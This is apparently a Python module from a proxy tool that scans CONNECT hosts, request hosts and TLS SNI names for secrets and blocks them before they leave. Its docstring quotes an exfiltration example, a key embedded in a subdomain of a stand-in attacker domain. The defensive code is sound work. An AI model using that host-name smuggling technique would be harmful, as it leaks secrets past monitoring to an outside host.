"""The blocking DLP scan of the names a connection is opened for, before anything is opened or looked up.

A secret can ride in a host name: `CONNECT <key>.attacker.example:443` (mitmproxy connects, and looks
the name up, when the tunnel opens, before any request inside it is scanned), an absolute-form request's
host (failcore's own `network.block_private_resolved` lookup runs at requestheaders, before the body and
the request scan), or a TLS SNI (mitmproxy offers the client's SNI to the upstream). Each is scanned
here, as written and upper-cased (`host_hits`), and a hit whose action is BLOCK refuses the tunnel or
the request, or keeps the name out of the upstream handshake, before it can leave. This concern runs
right after the policy gate and before the resolved-address guard. The evidence masks the same names
(failcore.evidence.dlp); the request scan (DlpGuard) still scans the host with everything else.
"""

from __future__ import annotations

import asyncio
import logging
from collections.abc import Awaitable, Callable
from dataclasses import replace

from mitmproxy import http, tls

from failcore.dlp import Hit
from failcore.dlp.pending import engine_ready
from failcore.dlp.scanner import DlpScanner
from failcore.proxy.dlpguard import CleanScans, block_decision, host_hits
from failcore.proxy.gate import TUNNEL_MODES, Fronted, blocked_response, decision_host, stricter
from failcore.proxy.guard import guarded
from failcore.proxy.session import Session

logger = logging.getLogger(__name__)


def target_names(flow: http.HTTPFlow) -> list[str]:
    """The names mitmproxy or failcore may look up or offer for this request: the request's host and,
    where it differs (an IP target with a TLS SNI), the name decisions use."""
    names = [flow.request.host]
    named = decision_host(flow)
    if named != names[0]:
        names.append(named)
    return names


def names_hits(
    scanner: DlpScanner, names: list[str], where: str, clean: CleanScans | None = None
) -> list[Hit]:
    """The hits in these names, located at `where` (a refusal's reason says where the secret was).
    With `clean`, a name found clean before is not scanned again."""
    engine = scanner.engine
    found = [
        hit
        for name in names
        if name
        for hit in (clean.scan(("host", name), host_hits, engine, name) if clean else host_hits(engine, name))
    ]
    return [replace(hit, location=where) for hit in found]


class HostDlpGuard:
    def __init__(self, session: Session) -> None:
        self.session = session
        self._clean: CleanScans | None = None

    def _blocking_scanner(self) -> DlpScanner | None:
        scanner = self.session.dlp
        if scanner is None or not scanner.can_block or not scanner.settings.scan_request:
            return None
        return scanner

    def _when_ready(
        self, scanner: DlpScanner, names: list[str], where: str, then: Callable[[list[Hit]], None]
    ) -> Awaitable[None] | None:
        """`then(hits)` at once, or off the loop once the rules have compiled (just after start-up).
        The names an agent connects to repeat: one found clean by this scanner is not scanned again."""
        if engine_ready(scanner.engine):
            if self._clean is None or self._clean.scanner is not scanner:
                self._clean = CleanScans(scanner)
            then(names_hits(scanner, names, where, self._clean))
            return None

        async def later() -> None:
            then(await asyncio.to_thread(names_hits, scanner, names, where))

        return later()

    @guarded("hostdlp.http_connect")
    def http_connect(self, flow: http.HTTPFlow) -> Awaitable[None] | None:
        scanner = self._blocking_scanner()
        if scanner is None or flow.response is not None:
            return None

        def decide(hits: list[Hit]) -> None:
            state = self.session.state(flow)
            verdict = block_decision(scanner, hits, state.decision)
            if verdict is None:
                return
            state.decision = verdict
            if verdict.decision == "BLOCK":
                state.decided_host = flow.request.host
                state.blocked = True
                flow.response = blocked_response(verdict, flow.id)

        return self._when_ready(scanner, [flow.request.host], "CONNECT host", decide)

    @guarded("hostdlp.requestheaders")
    def requestheaders(self, flow: http.HTTPFlow) -> Awaitable[None] | None:
        """Only a BLOCK is decided here (the gate's `request` answers it, nothing is looked up or
        streamed meanwhile); a would-block in observe mode is left to the request scan."""
        scanner = self._blocking_scanner()
        if scanner is None or not scanner.enforce or flow.response is not None:
            return None
        state = self.session.flows.get(flow.id)
        if state is not None and state.decision is not None and state.decision.decision == "BLOCK":
            return None

        def decide(hits: list[Hit]) -> None:
            verdict = block_decision(scanner, hits, None)
            if verdict is None or verdict.decision != "BLOCK":
                return
            state = self.session.state(flow)
            state.decision = verdict if state.decision is None else stricter(state.decision, verdict)

        return self._when_ready(scanner, target_names(flow), "target host", decide)

    @guarded("hostdlp.tls_clienthello")
    def tls_clienthello(self, data: tls.ClientHelloData) -> Awaitable[None] | None:
        """A secret in the SNI: on a BLOCK the upstream handshake names the tunnel's host (no name at all
        outside a tunnel) and every request on the connection is refused; either way the warning on
        the tape names the rule, not the SNI."""
        scanner = self._blocking_scanner()
        sni = data.client_hello.sni
        if scanner is None or not sni:
            return None

        def decide(hits: list[Hit]) -> None:
            verdict = block_decision(scanner, hits, None)
            if verdict is None:
                return
            server, client = data.context.server, data.context.client
            blocked = verdict.decision == "BLOCK"
            tunnel = client.proxy_mode.type_name in TUNNEL_MODES and server.address is not None
            target = str(server.address[0]) if tunnel and server.address is not None else None
            said = f"the TLS SNI holds a secret ({verdict.rule})"
            if blocked:
                said += (
                    f": the upstream handshake names {target!r}" if target else ": no SNI is sent upstream"
                )
                server.sni = target
                logger.warning(
                    "failcore: kept a TLS SNI holding a secret from the upstream (%s)", verdict.rule
                )
            # The gate's SNI-mismatch warning quotes the SNI: this one, which does not, replaces it.
            earlier = self.session.fronted.get(client.id)
            if earlier is not None:
                verdict, blocked = stricter(earlier.decision, verdict), blocked or earlier.blocked
            warning = {"reason": "dlp", "message": said}
            self.session.fronted[client.id] = Fronted(verdict, warning, blocked=blocked)

        return self._when_ready(scanner, [sni], "TLS SNI", decide)
